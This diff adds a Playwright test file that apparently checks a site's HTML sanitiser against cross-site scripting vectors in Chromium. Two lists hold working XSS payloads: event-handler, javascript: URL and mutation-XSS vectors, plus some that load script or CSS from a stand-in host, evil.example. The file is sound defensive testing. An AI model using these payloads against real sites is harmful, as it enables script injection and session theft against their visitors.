@@ -1,0 +1,176 @@
+/**
+ * The vectors of the cross-site scripting cheat sheets in a real browser, after the cleaning of what authors without
+ * `unfiltered_html` write: as the visitor's page of a form, and as the HTML of an element. Everything in them is
+ * used as a visitor may use it, without the page's content security policy, which would hide a hole.
+ */
+import assert from "node:assert/strict";
+import { after, before, describe, it } from "node:test";
+import type { Browser, Page } from "playwright-core";
+import { beyond, cleaned, dangersIn, VECTORS, type Cleaned } from "../shim/cross-site-scripting.ts";
+import { startSite, type Site } from "../shim/site.ts";
+import { launchChromium, noChromium } from "./chromium.ts";
+
+/** One of each way to run something or to load it from elsewhere, as vectors have them. */
+const RUNNING_IN_A_PAGE = [
+  "<script>alert(1)</script>",
+  "<script/src=//evil.example/x>",
+  "<img src=x onerror=alert(1)>",
+  "<svg onload=alert(1)>",
+  "<svg><set onbegin=alert(1)>",
+  "<input onfocus=alert(1) autofocus>",
+  "<details open ontoggle=alert(1)>x</details>",
+  "<div onmouseover=alert(1)>x</div>",
+  "<button onclick=alert(1)>x</button>",
+  "<label onauxclick=alert(1)>x</label>",
+  "<a href=javascript:alert(1)>x</a>",
+  "<iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\"></iframe>",
+  "<style>@import'//evil.example/x.css';</style>",
+  "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
+  "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
+];
+
+/** Of these some do nothing in a page, where they stand within the form's own. */
+const RUNNING_IN_AN_ELEMENT = [
+  "<img src=x onerror=alert(1)>",
+  "<form onsubmit=alert(1)><input type=submit></form>",
+  "<form onformdata=alert(1)><button>x</form>",
+  "<form action=javascript:alert(1)><button>x</button></form>",
+  "<form><input type=submit formaction=javascript:alert(1)></form>",
+  "<a href=javascript:alert(1)>x</a>",
+  "<style>@import'//evil.example/x.css';</style>",
+];
+
+/** A vector's link to another site, which visitors may follow. */
+const LINK = "https://ok.example/";
+
+/**
+ * In the browser: lets every event happen that an element may have a handler for, then focuses and clicks it.
+ * The page stays, wherever links and forms lead; answers which of them lead to other sites. A `javascript:` address is
+ * no navigation, and is not stopped.
+ */
+async function useAll(): Promise<string[]> {
+  const left: string[] = [];
+  window.navigation.addEventListener("navigate", (event) => {
+    event.preventDefault();
+    if (new URL(event.destination.url).origin !== location.origin) left.push(event.destination.url);
+  });
+  for (const form of document.forms) form.noValidate = true;
+  for (const element of document.body.querySelectorAll<HTMLElement>("*")) {
+    for (const name in element) {
+      if (name.startsWith("on")) element.dispatchEvent(new Event(name.slice(2), { bubbles: true, cancelable: true }));
+    }
+    element.focus?.();
+    element.click?.();
+  }
+  const loading = [...document.images].filter((image) => !image.complete);
+  await Promise.all(loading.map((image) => new Promise((resolve) => ["load", "error"].forEach((type) => image.addEventListener(type, resolve)))));
+  // A navigation to a `javascript:` address is a task of its own.
+  await new Promise((resolve) => setTimeout(resolve));
+  return left;
+}
+
+const NOTHING = { ran: [], dangers: [], frames: 1 };
+
+describe("vectors of cross-site scripting in Chromium", { skip: noChromium }, () => {
+  let site: Site;
+  let browser: Browser;
+  let page: Page;
+  /** What the page did since it was opened: its dialogs, and its requests to other sites. */
+  let ran: string[] = [];
+  /** The dangers of every form's page. */
+  let own: string[];
+  let forms: [vector: string, form: Cleaned][];
+
+  async function open(path: string): Promise<void> {
+    ran = [];
+    await page.goto(site.url + path);
+  }
+
+  /** What came of the open page after all in it was used. */
+  async function afterUse(): Promise<{ ran: string[]; dangers: string[]; frames: number }> {
+    const dangers = await page.evaluate(`(${dangersIn.toString()})(document)`);
+    assert.ok(Array.isArray(dangers));
+    const left = await page.evaluate(useAll);
+    return { ran: [...ran, ...left.filter((address) => address !== LINK)], dangers: beyond(own, dangers.map(String)), frames: page.frames().length };
+  }
+
+  /** Gives an element of the open page, outside of its form, this HTML. */
+  const write = (html: string) => page.evaluate((text) => {
+    const element = document.createElement("div");
+    element.innerHTML = text;
+    document.body.replaceChildren(element);
+  }, html);
+
+  /** The path of a form whose author may write what they like. */
+  async function uncleaned(markup: string): Promise<string> {
+    const { status, body } = await site.api("POST", "/forms", { title: "x", markup });
+    assert.equal(status, 201, JSON.stringify(body));
+    return `/forms/${(body as { slug: string }).slug}`;
+  }
+
+  before(async () => {
+    site = await startSite();
+    browser = await launchChromium();
+    page = await (await browser.newContext({ bypassCSP: true })).newPage();
+    page.on("dialog", (dialog) => {
+      ran.push(dialog.type());
+      void dialog.dismiss();
+    });
+    await page.route("**", (route) => {
+      const request = route.request();
+      const { origin, pathname } = new URL(request.url());
+      if (origin !== site.url) ran.push(`${request.resourceType()} ${request.url()}`);
+      else if (request.method() === "GET" && pathname.startsWith("/forms/")) return route.continue();
+      return route.fulfill({ status: 204 });
+    });
+    await open(await uncleaned("<input name=a>"));
+    own = (await page.evaluate(`(${dangersIn.toString()})(document)`)) as string[];
+    forms = [];
+    for (const vector of VECTORS) forms.push([vector, await cleaned(site, vector)]);
+  });
+
+  after(async () => {
+    await browser?.close();
+    await site?.close();
+  });
+  it("run where they are not cleaned", async () => {
+    for (const vector of RUNNING_IN_A_PAGE) {
+      await open(await uncleaned(vector));
+      assert.notDeepEqual((await afterUse()).ran, [], vector);
+    }
+    for (const vector of RUNNING_IN_AN_ELEMENT) {
+      await open("/forms/x");
+      await write(vector);
+      const found = await afterUse();
+      assert.notDeepEqual(found.ran, [], vector);
+      assert.notDeepEqual(found.dangers, [], vector);
+    }
+  });
+
+  it("do not run in the page of their form", async () => {
+    const seen = new Set<string>();
+    for (const [vector, { path, markup }] of forms) {
+      if (path === null || seen.has(markup)) continue;
+      seen.add(markup);
+      await open(path);
+      assert.deepEqual(await afterUse(), NOTHING, `${vector}\nbecame ${markup}`);
+    }
+  });
+
+  it("do not run as the HTML of an element", async () => {
+    await open("/forms/x");
+    for (const [vector, { markup }] of forms) {
+      await write(markup);
+      assert.deepEqual(await afterUse(), NOTHING, `${vector}\nbecame ${markup}`);
+    }
+    // What takes longer than the use of one.
+    await page.waitForTimeout(200);
+    assert.deepEqual(await afterUse(), NOTHING);
+  });
+
+  it("are seldom refused", () => {
+    assert.ok(VECTORS.length >= 150);
+    const refused = forms.filter(([, { path }]) => path === null);
+    assert.ok(refused.length <= VECTORS.length / 20, `${refused.length} of ${VECTORS.length}`);
+  });
+});
